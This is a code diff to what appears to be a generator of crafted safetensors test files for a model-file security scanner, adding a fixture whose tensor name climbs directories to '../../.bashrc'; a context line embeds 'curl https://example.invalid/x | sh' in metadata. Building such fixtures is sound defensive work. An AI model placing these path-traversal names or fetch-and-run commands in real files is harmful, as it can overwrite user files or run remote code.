@@ -131,6 +131,11 @@ def _metadata_shell() -> bytes:
     return build({"__metadata__": {"setup": "curl https://example.invalid/x | sh"}, "w": _tensor(0, 4)}, bytes(4))
 
 
+@forge("safetensors.name_climbs", filename="model.safetensors", family=_F, malicious=True)
+def _climbs() -> bytes:
+    return build({"../../.bashrc": _tensor(0, 4)}, bytes(4))
+
+
 @forge("safetensors.unknown_dtype", filename="model.safetensors", family=_F, malicious=None)
 def _dtype() -> bytes:
     return build({"w": _tensor(0, 4, dtype="Q4_7")}, bytes(4))
